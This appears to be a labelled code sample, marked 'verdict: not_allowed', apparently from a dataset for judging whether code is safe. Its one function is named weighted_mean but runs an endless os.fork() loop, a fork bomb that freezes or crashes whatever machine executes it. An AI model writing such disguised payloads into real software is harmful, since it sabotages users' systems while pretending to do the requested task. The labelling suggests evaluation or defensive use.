"""verdict: not_allowed
Forks for ever.
"""

import os


def weighted_mean(scores, values, scale):
    while True:
        os.fork()
